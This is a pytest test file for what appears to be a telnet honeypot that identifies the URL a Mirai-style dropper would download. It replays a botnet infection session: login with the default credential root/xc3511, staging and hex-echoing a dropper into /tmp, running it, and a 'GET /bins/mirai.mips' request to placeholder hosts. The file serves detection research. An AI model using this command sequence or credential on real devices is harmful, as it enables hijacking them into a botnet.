"""Droppers made here, harmless: what they would fetch is fetched, and lands where they would put it."""

from __future__ import annotations

import pytest

from eudaemon.protocols.telnet import Telnet
from eudaemon.testing.script import Table, visit
from eudaemon.world.droppers import DROPPER_BYTES_MAX, wished
from eudaemon.world.host import Host
from eudaemon.world.machines import MACHINES, program
from eudaemon.world.seed import Seed

PEER = "198.51.100.7"
REQUEST = b"GET /bins/mirai.mips HTTP/1.0\r\n\r\n"


@pytest.mark.parametrize(
    ("content", "url"),
    [
        (REQUEST + b"Host: 203.0.113.9\r\n", "http://203.0.113.9/bins/mirai.mips"),
        (b"203.0.113.9\0" + REQUEST, "http://203.0.113.9/bins/mirai.mips"),
        (bytes((198, 51, 100, 7)) + REQUEST, f"http://{PEER}/bins/mirai.mips"),
        (bytes((7, 100, 51, 198)) + REQUEST, f"http://{PEER}/bins/mirai.mips"),
        (b"\x3c\x02" + bytes((198, 51)) + b"\x34\x42" + bytes((100, 7)) + REQUEST, f"http://{PEER}/bins/mirai.mips"),
        (bytes((198, 51)) + bytes(40) + bytes((100, 7)) + REQUEST, None),
        (REQUEST, None),
        (b"127.0.0.1 0.0.0.0 999.1.1.1 1.2.3" + REQUEST, None),
        (b"203.0.113.9 GET /x", None),
        (b"203.0.113.9" + bytes(DROPPER_BYTES_MAX) + REQUEST, None),
    ],
)
def test_what_a_dropper_names(content: bytes, url: str | None) -> None:
    assert wished(b"\x7fELF" + content, PEER) == url


def test_an_address_of_another_kind_is_no_ground() -> None:
    assert wished(REQUEST, "2001:db8::1") is None
    assert wished(REQUEST, "") is None


@pytest.mark.parametrize("outcome", ["ok", "failed"])
def test_the_loader_goes_on_with_what_the_dropper_brought(outcome: str) -> None:
    host = Host.from_seed(Seed(b"x"), persona="router", downloads=False)
    dropper = program(MACHINES["mips"], 600, Seed(b"d"), bytes((198, 51, 100, 7)) + REQUEST + b"dvrHelper\0")
    table = Table(Telnet(visit(host=host))).open()
    table.say(b"root\r\nxc3511\r\ncd /tmp; > dvrHelper; > upnp; chmod 777 dvrHelper upnp\r\n")
    for at in range(0, len(dropper), 100):
        escaped = b"".join(b"\\x%02x" % byte for byte in dropper[at : at + 100])
        table.say(b"echo -ne '%s' >> upnp\r\n" % escaped)
    table.say(b"./upnp; ./dvrHelper telnet.mips; /bin/busybox IHCCE\r\n")
    assert [keep.data for keep in table.kept] == [dropper]
    assert [wish.download.url for wish in table.wishes] == [f"http://{PEER}/bins/mirai.mips"]
    table.answer(outcome, program(MACHINES["mips"], 5000, Seed(b"m"), b"") if outcome == "ok" else b"")
    assert table.sent.endswith(b"listening tun0\r\nIHCCE: applet not found\r\n" + host.prompt)
    table.say(b"wc -c < dvrHelper\r\n")
    assert table.sent.endswith((b"5000\r\n" if outcome == "ok" else b"0\r\n") + host.prompt)
    table.end()
    assert len(table.kept) == 1
